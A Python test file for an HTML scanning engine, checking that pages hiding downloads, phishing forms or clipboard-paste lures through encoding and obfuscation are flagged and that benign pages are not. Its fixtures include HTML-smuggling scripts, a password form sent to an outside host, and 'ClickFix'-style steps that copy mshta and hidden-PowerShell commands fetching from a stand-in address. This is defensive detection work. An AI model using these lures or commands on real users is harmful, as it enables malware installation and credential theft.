"""Pages that spell what they do so that no scanner reads it, and honest ones that decode, copy and count."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.code.pages_coded import deciphered, hands_over, pasted
from safecare.examine.engine import Engine

ENGINE = Engine()
SCRIPT = b"var s=new ActiveXObject('WScript.Shell');s.Run('calc.exe');"
SHORT = base64.b64encode(SCRIPT).decode()
ZIP = base64.b64encode(b"PK\x03\x04\x14\0\0\0\x08\0" + bytes(range(90))).decode()
FORM = b'<html><body><form action="https://a.example/p"><input type="password" name="p"></form></body></html>'
DOWNLOAD = 'var l=document.createElement("a");l.href=URL.createObjectURL(new Blob([b]));l.download="a.js";l.click()'
STEPS = (
    "<p>To prove that you are human, press <b>Win</b> + <b>R</b>, then <kbd>Ctrl</kbd> + <kbd>V</kbd>, then Enter.</p>"
)
ETAPES = "<p>Appuyez sur la touche Windows + R, collez le code puis validez.</p>"


def page(script: str, body: str = "<p>Document</p>") -> bytes:
    return f"<html><body>{body}<script>{script}</script></body></html>".encode()


def numbers(raw: bytes) -> str:
    return "[" + ",".join(map(str, raw)) + "]"


ATTACKS = {
    "a short file": page(f'var b=Uint8Array.from(atob("{SHORT}"),c=>c.charCodeAt(0));{DOWNLOAD}'),
    "a response of a worker": page(
        f"var sw='self.onfetch=e=>e.respondWith(new Response(atob(`{SHORT}`)))';navigator.serviceWorker.register(sw)"
    ),
    "a file told in a style": page(
        f"var b=atob(getComputedStyle(document.body).getPropertyValue('--d'));{DOWNLOAD}",
        f"<style>:root{{--d:'{ZIP}'}}</style>",
    ),
    "a file in digits": page(
        f"var h='504b0304{'1400' * 40}';var b=h.match(/../g).map(x=>String.fromCharCode(x));{DOWNLOAD}"
    ),
    "letters moved by seven": page(
        f"var s='';{numbers(bytes(one + 7 for one in FORM))}.forEach(n=>s+=String.fromCharCode(n-7));document.write(s)"
    ),
    "letters behind many rows": page(
        f"f(String.fromCharCode({numbers(bytes([72] * 300))}));" * 9
        + f"document.write({numbers(bytes(one ^ 3 for one in FORM))})"
    ),
    "letters crossed": page(
        f"document.body.innerHTML=String.fromCharCode(...{numbers(bytes(one ^ 0x5A for one in FORM))}.map(n=>n^90))"
    ),
    "letters as they are": page(f"eval(new TextDecoder().decode(new Uint8Array({numbers(FORM)})))"),
    "a command to be pasted": page(
        "navigator.clipboard.writeText('mshta http://203.0.113.5/v.hta # I am human')", STEPS
    ),
    "the same in French": page("t.select();document.execCommand('copy')//powershell -w hidden -c iex", ETAPES),
    "a coded command": page("navigator.clipboard.writeText(atob('cG93ZXJzaGVsbA=='))", STEPS),
    "a path to be pasted": page(
        "navigator.clipboard.writeText('powershell -c ping a.example # C:\\\\report.docx')",
        "<p>Open Explorer, select the address bar (Ctrl+L) and paste the path of the file.</p>",
    ),
    "a link that the page presses": page(
        "x.click()", f"<a id=x download='a.zip' href='data:application/zip;base64,{ZIP}'>a</a>"
    ),
    "a file that the browser decodes": page(
        f"fetch('data:application/zip;base64,{ZIP}').then(r=>r.blob()).then(b=>{{{DOWNLOAD}}})"
    ),
    "a file in moved numbers, by names in brackets": page(
        f"var b=new Uint8Array({numbers(bytes((one + 13) % 256 for one in b'PK' + bytes(90)))}.map(n=>n-13));"
        "a['href']=URL['createObjectURL'](new File([b],'a.zip'));a['download']='a.zip';a['click']()"
    ),
    "a program made by a name": page(f"[]['filter']['constructor'](atob('{SHORT}'))()"),
    "a page in pieces out of order": page(
        f"var p={[base64.b64encode(bytes([one]) * 60).decode() for one in range(60, 90)]};"
        "document.write(order.map(i=>atob(p[i])).join(''))",
        "",
    ),
    "more than an address": page(
        "document.write(unescape('%3Ca%20href%3D%22mailto%3Aa%40a.example%22%3Eus%3C%2Fa%3E')+atob(s))"
    ),
    "six signs alone": page("(![]+[])[+[]]" * 80),
    "a form that a script sends on": page(
        "b.onclick=()=>fetch('https://a.example/p',{method:'POST',body:p.value})",
        '<p>Log in to see the invoice</p><input value="c.martin@hospital.example"><input id=p type="password">',
    ),
    "a form that a service of mails sends on": page(
        "emailjs.sendForm('service_1','template_2',f)", "<form id=f><input name=m><input type=password></form>"
    ),
    "a command for Explorer": page(
        "t.value='mshta http://203.0.113.5/v.hta';t.select();document.execCommand('copy')",
        "<p>Ouvrez l'explorateur de fichiers (Ctrl+L), puis collez et validez.</p>",
    ),
}
HONEST = {
    "a table saved by the page": page(f"var b='a;b\\n1;2';{DOWNLOAD}"),
    "a picture saved by the page": page(f"var b=atob(canvas.toDataURL().split(',')[1]);{DOWNLOAD}"),
    "a table saved by the page's own link": page(
        "a.href='data:text/csv;base64,YTtiCjE7Mg==';a.download='t.csv';a.click()", "<a id=a>Save</a>"
    ),
    "an address that robots don't gather": page(
        "document.write(unescape('%3Ca%20href%3D%22mailto%3Ainfo%40a.example%22%3Eus%3C%2Fa%3E'))"
    ),
    "a sign-in page that was saved": page(
        "fetch('https://a.example/session')", '<form action="/login"><input name=u><input type=password></form>'
    ),
    "names of things in brackets": page(f"var t={{}};t['name']=document['title'];t['data']='{'QUJD' * 120}';show(t)"),
    "a token that is read": page("var t=JSON.parse(atob('eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9'));show(t.alg)"),
    "a curve": page(f"plot({numbers(bytes(range(240)))});var c=String.fromCharCode(65)"),
    "a key to be copied": page("navigator.clipboard.writeText(field.value)", "<p>Then press Ctrl + V to paste it.</p>"),
    "a command of a manual": page("navigator.clipboard.writeText(code)", "<pre>curl https://sh.example | sh</pre>"),
    "help with Windows": page("copy.onclick=()=>navigator.clipboard.writeText(number)",
        "<p>Press Windows + R, type msinfo32, and paste the number of your request into the mail.</p>"),
}  # fmt: skip


@pytest.mark.parametrize("kind", ATTACKS)
def test_what_a_page_spells_is_found(kind: str) -> None:
    found = ENGINE.judge(ATTACKS[kind], "document.html")
    assert found.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found


@pytest.mark.parametrize("kind", HONEST)
def test_what_honest_pages_do_is_not(kind: str) -> None:
    found = ENGINE.judge(HONEST[kind], "document.html")
    assert found.verdict is Verdicts.CLEAN, found


@given(st.binary(max_size=400), st.lists(st.integers(0, 999), max_size=80))
def test_any_text_is_read(raw: bytes, values: list[int]) -> None:
    text = raw + b"fromCharCode" + ",".join(map(str, values)).encode()
    assert list(deciphered(text)) == [] or len(values) >= 40
    assert not pasted(text)
    assert hands_over(text + b';atob("' + b"A" * 24 + b'")')
